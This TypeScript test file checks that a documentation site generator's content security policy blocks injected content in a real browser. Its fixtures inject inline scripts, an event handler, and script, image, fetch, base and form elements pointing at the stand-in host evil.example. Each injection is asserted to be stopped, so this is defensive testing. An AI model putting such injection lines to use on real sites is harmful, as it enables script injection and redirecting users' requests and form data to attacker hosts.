// The content security policy in a real browser: it stops what it must, and nothing that a page does by itself.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { runHubdocs } from "../portal/runHubdocs.ts";
import { everyKindAt } from "./pageKinds.ts";
import { servedPortal } from "./servedPortal.ts";
import { type ServedFolder, serveFolder } from "./serveFolder.ts";

declare global {
  interface Window {
    readonly violations: string[];
  }
}

const work = mkdtempSync(join(tmpdir(), "hubdocs-policy-"));
const portal = servedPortal();
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A page that notes what policies stop, and everything that the console says. */
async function openPage(width = 1280): Promise<{ readonly page: Page; readonly said: string[] }> {
  const context = await portal.browser.newContext({ viewport: { width, height: 800 } });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const page = await context.newPage();
  const said: string[] = [];
  page.on("console", (message) => /^(error|warning)$/.test(message.type()) && said.push(message.text()));
  page.on("pageerror", (error) => said.push(error.message));
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.defineProperty(window, "violations", { value: violations });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return { page, said };
}

const violationsOf = (page: Page): Promise<readonly string[]> => page.evaluate(() => window.violations);

/** Presses every button that a reader sees, as scripts may be behind each: menus, tabs, copying, colours, folding. */
async function pressEverything(page: Page): Promise<number> {
  return await page.evaluate(() => {
    const buttons = [...document.querySelectorAll<HTMLElement>("button, summary")].filter(
      (button) => button.checkVisibility() && !button.closest("form"),
    );
    for (const button of buttons) {
      button.click();
      button.closest("hub-island")?.setAttribute("data-pressed", "");
    }
    return buttons.length;
  });
}

describe.each([1280, 390] as const)("at %d pixels", (width) => {
  test("no kind of page does what its policy stops, also when every button is pressed", async () => {
    const { page, said } = await openPage(width);
    for (const path of everyKindAt(width)) {
      const response = await page.goto(portal.origin + path);
      expect(response?.headers()["content-security-policy"], path).toContain(
        "default-src 'self'; script-src 'self' 'sha",
      );
      expect(await pressEverything(page), path).toBeGreaterThan(0);
      // What is loaded only then must have its time too.
      await expect.poll(() => page.locator("hub-island[data-pressed]:not([data-hydrated])").count()).toBe(0);
      expect([path, await violationsOf(page), said]).toEqual([path, [], []]);
    }
    await page.context().close();
  });
});

describe("what is put into a page", () => {
  let page: Page;
  beforeAll(async () => {
    ({ page } = await openPage());
    await page.goto(`${portal.origin}/docs/intro`);
  });
  afterAll(() => page?.context().close());

  test.each([
    [
      "an inline script",
      "script-src-elem inline",
      () => {
        const script = document.createElement("script");
        script.textContent = "document.documentElement.dataset.pwned = ''";
        document.body.append(script);
      },
    ],
    [
      "an event handler",
      "script-src-attr inline",
      () => {
        document.body.insertAdjacentHTML(
          "beforeend",
          `<p id="x" onclick="document.documentElement.dataset.pwned = ''">`,
        );
        document.getElementById("x")?.click();
      },
    ],
    [
      "a script of another host",
      "script-src-elem https://evil.example/x.js",
      () => {
        const script = document.createElement("script");
        script.src = "https://evil.example/x.js";
        document.body.append(script);
      },
    ],
    [
      "a style attribute",
      "style-src-attr inline",
      () => {
        document.body.setAttribute("style", "position: fixed");
      },
    ],
    [
      "a picture of another host",
      "img-src https://evil.example/x.png",
      () => {
        document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.example/x.png" alt="">');
      },
    ],
    [
      "a request to another host",
      "connect-src https://evil.example/",
      () => {
        void fetch("https://evil.example/").catch(() => undefined);
      },
    ],
    [
      "a base for all addresses",
      "base-uri https://evil.example/",
      () => {
        document.head.insertAdjacentHTML("beforeend", '<base href="https://evil.example/">');
      },
    ],
    [
      "a form",
      "form-action https://evil.example/?",
      () => {
        document.body.insertAdjacentHTML("beforeend", '<form id="f" action="https://evil.example/"></form>');
        document.querySelector<HTMLFormElement>("#f")?.submit();
      },
    ],
  ] as const)("%s is stopped", async (_, violation, putIn) => {
    await page.evaluate(() => window.violations.splice(0));
    await page.evaluate(putIn);
    await expect.poll(() => violationsOf(page)).toEqual([violation]);
    expect(await page.evaluate(() => "pwned" in document.documentElement.dataset)).toBe(false);
  });
});

describe("a site that carries the policy in its pages", () => {
  const site = join(work, "site");
  let host: ServedFolder;
  beforeAll(async () => {
    mkdirSync(join(site, "content/en/docs"), { recursive: true });
    writeFileSync(
      join(site, "hubdocs.config.json"),
      JSON.stringify({ title: "Hub", contentSecurity: { emit: "meta" }, announcement: { id: "a", text: "News" } }),
    );
    writeFileSync(
      join(site, "content/en/docs/intro.md"),
      "# Introduction\n\n![Picture](https://pictures.example/a.png)\n\n<script>document.title = 'pwned'</script>\n",
    );
    writeFileSync(join(site, "content/en/docs/plain.md"), "# Plain\n\n[A page with pictures](intro.md)\n");
    expect(runHubdocs(["build", site]).status).toBe(0);
    host = await serveFolder(join(site, "build"), { withPolicy: false });
  });
  afterAll(() => host?.close());

  test("has it on a host that sends no headers, each page for what it loads", async () => {
    const { page, said } = await openPage();
    await page.route("https://pictures.example/**", (route) =>
      route.fulfill({
        contentType: "image/svg+xml",
        body: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
      }),
    );
    await page.goto(`${host.url}/docs/intro/`);
    await expect.poll(() => page.locator("main img").evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(9);
    expect(await violationsOf(page)).toEqual(["script-src-elem inline"]);
    expect(await page.title()).toBe("Introduction | Hub");
    expect(await page.locator("html").getAttribute("class")).toContain("js");

    said.splice(0);
    await page.goto(`${host.url}/docs/plain/`);
    expect([await violationsOf(page), said]).toEqual([[], []]);
    const carried = page.locator('meta[http-equiv="Content-Security-Policy"]');
    expect(await carried.getAttribute("content")).not.toContain("pictures.example");

    // A document keeps the policy it came with, so a page with another one is not put into it.
    await page.locator("main a", { hasText: "pictures" }).click();
    await expect.poll(() => page.locator("main img").evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(9);
    await page.context().close();
  });
});
